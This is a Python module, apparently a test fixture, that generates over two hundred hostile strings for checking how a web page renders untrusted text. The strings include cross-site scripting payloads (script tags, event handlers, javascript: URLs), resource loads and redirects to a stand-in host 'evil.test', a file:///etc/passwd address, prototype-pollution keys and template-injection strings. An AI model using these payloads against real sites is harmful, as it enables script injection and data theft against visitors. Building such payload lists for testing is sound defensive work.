"""Strings that would do something if a page took them for more than text: over two hundred."""

from itertools import product

EVIL = "http://evil.test"
RUN = "window.pwned=1"

_ELEMENTS = [
    f"<script>{RUN}</script>",
    f"<script src={EVIL}/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f'<img src="{EVIL}/x.png">',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN[7:]}</script>"></iframe>',
    f"<object data={EVIL}/x></object>",
    f"<embed src={EVIL}/x>",
    f"<base href={EVIL}/>",
    f'<meta http-equiv=refresh content="0;url={EVIL}">',
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<link rel=prefetch href={EVIL}/x>",
    f"<style>@import '{EVIL}/x.css';</style>",
    f"<body background={EVIL}/x.png>",
    f'<div style="background:url({EVIL}/x.png)">x</div>',
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src={EVIL}/x.ogg autoplay>",
    f"<form action={EVIL}><button>x</button></form>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<x-y is=z onclick={RUN} tabindex=0 autofocus>",
]
_AROUND = ["{}", "</style>{}", "</script>{}", "</textarea>{}", "</title>{}", '">{}', "-->{}"]
_ADDRESSES = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "//evil.test/x",
    "http:evil.test",
    "https://",
    "http://[",
    "ftp://evil.test/x",
    "file:///etc/passwd",
    f"blob:{EVIL}/x",
    f"view-source:{EVIL}",
]
_WORDS = [
    "__proto__", "constructor", "toString", "hasOwnProperty", "valueOf", "prototype",
    "' onmouseover=window.pwned=1 x='", '" onfocus=window.pwned=1 autofocus x="', "` + window.pwned",
    "${window.pwned=1}", "{{constructor.constructor('window.pwned=1')()}}", "&lt;script&gt;",
    "&#60;script&#62;",
    "\u202eevil", "\u2066x\u2069", "\u200b" * 50, "\ufeff", "\x00", "\x1b[31mred\x1b[0m", "\u2028\u2029",
    "a" * 20_000, "W" * 2_000, "\u0e49" * 500, "\U0001f469\u200d\U0001f469" * 100, "\n" * 500,
    "0", "-1", "null", "NaN",
    "</pre></code></li></ol></main></body></html>", "<!--", "]]>", "<![CDATA[", "<?xml?>", "<plaintext>",
    "<xmp>",
]  # fmt: skip

ADDRESSES = _ADDRESSES
STRINGS = list(
    dict.fromkeys(
        [
            *_WORDS,
            *_ADDRESSES,
            *(around.format(element) for element, around in product(_ELEMENTS, _AROUND)),
        ]
    )
)
